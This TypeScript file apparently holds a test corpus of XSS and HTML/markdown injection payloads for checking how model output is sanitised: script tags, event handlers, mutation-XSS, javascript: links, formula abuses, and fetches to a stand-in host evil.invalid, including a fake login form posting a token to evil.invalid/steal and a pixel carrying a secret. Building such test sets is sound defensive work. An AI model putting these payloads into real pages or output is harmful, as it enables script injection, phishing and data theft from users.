/** What a model might write, or be made to write, to run, fetch, leave or imitate something. */
const RUN = 'window.pwned=1';
const OUT = 'https://evil.invalid';

const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${OUT}/x.js"></script>`,
  `<SCRIPT/XSS SRC="${OUT}/x.js"></SCRIPT>`,
  `<script type="module">import "${OUT}/x.js"</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<script>\n\n${RUN}\n\n</script>`,
];

const HANDLERS: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}"><img src=x:x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onpointerover="${RUN}" onclick="${RUN}">over me</div>`,
  `<p style="animation:x 1s" onanimationstart="${RUN}">x</p>`,
  `<a href="https://ok.invalid" onclick="${RUN}">click</a>`,
  `<img src=x\tonerror\n=\n"${RUN}">`,
  `<iMg/src=x/oNeRrOr=${RUN}>`,
  `<b onmouseenter=${RUN} tabindex=0 onfocus=${RUN} autofocus>b</b>`,
];

const MUTATIONS: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>"></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<svg><foreignObject><iframe onload=${RUN}></iframe></foreignObject></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<select><style></select><img src=x onerror=${RUN}></style></select>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
];

const LINKS: readonly string[] = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java&#x0A;script:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1))`,
  `<javascript:${RUN}>`,
  `[x][r]\n\n[r]: javascript:${RUN}`,
  `![x](javascript:${RUN})`,
  `[![x](${OUT}/i.png)](javascript:${RUN})`,
  `<a href="  javascript:${RUN}">x</a>`,
  `<a href="//evil.invalid/x" ping="${OUT}/ping">x</a>`,
  `<a href="blob:https://evil.invalid/1">x</a> <a href="/models/starter/config.json" download>x</a>`,
  `[x](https://ok.invalid "\\" onmouseover=${RUN} x=\\"")`,
  `[x](https://ok.invalid"onclick="${RUN})`,
];

const FETCHES: readonly string[] = [
  `![x](${OUT}/pixel.png?secret=1)`,
  `<img src="${OUT}/pixel.png" srcset="${OUT}/2x.png 2x" loading="eager">`,
  `<picture><source srcset="${OUT}/a.webp"><img src="${OUT}/a.png"></picture>`,
  `<video src="${OUT}/v.mp4" poster="${OUT}/p.png" autoplay></video>`,
  `<audio src="${OUT}/a.mp3" autoplay></audio>`,
  `<iframe src="${OUT}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<frameset><frame src="${OUT}"></frameset>`,
  `<object data="${OUT}/o.swf"></object><embed src="${OUT}/e.swf">`,
  `<link rel="stylesheet" href="${OUT}/s.css"><link rel="prefetch" href="${OUT}/p">`,
  `<link rel="dns-prefetch" href="${OUT}"><link rel="preload" as="image" href="${OUT}/p.png">`,
  `<style>@import url("${OUT}/s.css"); body{background:url(${OUT}/b.png)}</style>`,
  `<p style="background:url(${OUT}/b.png);position:fixed;inset:0">covers the page</p>`,
  `<div style="list-style-image:url('${OUT}/l.png')">x</div>`,
  `<table background="${OUT}/t.png"><tr><td background="${OUT}/d.png">x</td></tr></table>`,
  `<input type="image" src="${OUT}/i.png">`,
  `<svg><image href="${OUT}/i.png"/><use href="${OUT}/u.svg#x"/></svg>`,
  `<svg><filter><feImage href="${OUT}/f.png"/></filter></svg>`,
  `<math><mglyph src="${OUT}/g.png"/></math>`,
  `<body background="${OUT}/bg.png">`,
];

const TAKEOVERS: readonly string[] = [
  `<form action="${OUT}/steal"><input name="token"><button>Log in</button></form>`,
  `<button formaction="javascript:${RUN}">x</button><isindex action="javascript:${RUN}">`,
  `<base href="${OUT}/">`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<a id="app" name="markdownPage"></a><form id="documentElement"><input name="lang"></form>`,
  `<div class="dock toast-place" id="message" role="alert">imitates the page</div>`,
  `<dialog open>modal</dialog><div popover id="settings-menu">x</div>`,
];

const NESTED: readonly string[] = [
  `**<img src=x onerror=${RUN}>**`,
  `> - 1. <img src=x onerror=${RUN}>`,
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `\`<img src=x onerror=${RUN}>\` then <img src=x onerror=${RUN}>`,
  `\`\`\`html\n<img src=x onerror=${RUN}><script>${RUN}</script>\n\`\`\``,
  `\`\`\`"onload="${RUN}\ncode\n\`\`\``,
  `\`\`\`js\n</code></pre><img src=x onerror=${RUN}>\n\`\`\``,
  `<div>\n\n**<script>${RUN}</script>**\n\n</div>`,
  `[<img src=x onerror=${RUN}>](https://ok.invalid)`,
  `<a href="https://ok.invalid">[x](javascript:${RUN})</a>`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
];

const FORMULAS: readonly string[] = [
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\url{javascript:${RUN}}$`,
  `$\\includegraphics{${OUT}/i.png}$`,
  `$\\style{background:url(${OUT}/b.png)}{x}$ $\\class{dock}{x}$ $\\id{app}{x}$ $\\data{x=1}{x}$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `$\\color{red;background:url(${OUT}/c.png)}x$ $\\colorbox{url(${OUT}/c.png)}{x}$`,
  `$$\n\\def\\x{\\x\\x}\\x\n$$`,
  `$\\rule{9999em}{9999em}$`,
  `$$\n</math><img src=x onerror=${RUN}>\n$$`,
  `<span data-math="block">\\href{javascript:${RUN}}{x}</span>`,
];

export const ATTACKS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...MUTATIONS,
  ...LINKS,
  ...FETCHES,
  ...TAKEOVERS,
  ...NESTED,
  ...FORMULAS,
];
